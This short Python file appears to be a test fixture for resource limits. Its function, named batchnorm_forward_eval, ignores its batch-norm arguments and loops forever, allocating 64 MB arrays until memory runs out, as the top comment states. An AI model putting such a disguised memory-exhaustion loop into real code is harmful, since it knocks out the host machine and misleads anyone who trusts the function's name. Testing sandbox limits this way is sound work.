# Allocates (and touches) memory until something stops it.
import numpy as np

_hoard = []


def batchnorm_forward_eval(x, gamma, beta, running_mean, running_var, eps=1e-5):
    while True:
        _hoard.append(np.ones(64 * 1024 * 1024 // 8))
